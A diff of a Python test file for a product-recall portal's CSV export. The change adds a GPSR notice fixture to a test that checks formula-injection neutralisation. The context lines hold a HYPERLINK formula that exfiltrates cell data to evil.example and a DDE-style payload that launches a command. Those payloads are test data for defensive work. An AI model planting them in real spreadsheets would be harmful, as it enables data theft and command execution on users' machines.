@@ -17,7 +17,7 @@ from portal.core.exports import FORMULA_STARTS, csv_text, neutralise
 from portal.extensions import db
 from portal.recalls import services
 from portal.recalls.models import RecallUnit
-from tests.factories import build_world, login
+from tests.factories import GPSR_NOTICE, build_world, login
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your refund")'
 AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -52,7 +52,7 @@ def test_the_recall_units_csv_shows_remedy_fields_and_serials_as_text(app):
         acme = db.session.scalar(select(Manufacturer).where(Manufacturer.slug == "acme"))
         gtin = db.session.get(ProductModel, world.model_id_a).gtin
         create_unit(acme, gtin=gtin, serial="=1+2", lot="L1", manufactured_on=date(2025, 1, 10), actor="test")
-        campaign = services.save_draft(acme, actor="test", number="R-1", title="Strap", hazard="Straps can snap.",
+        campaign = services.save_draft(acme, actor="test", **GPSR_NOTICE, number="R-1", title="Strap", hazard="Straps can snap.",
                                        remedy_options="Dealer", criteria={"lots": ["L1"]})
         services.launch(campaign, remedy_available=True, actor="test")
         for ru in db.session.scalars(select(RecallUnit)):
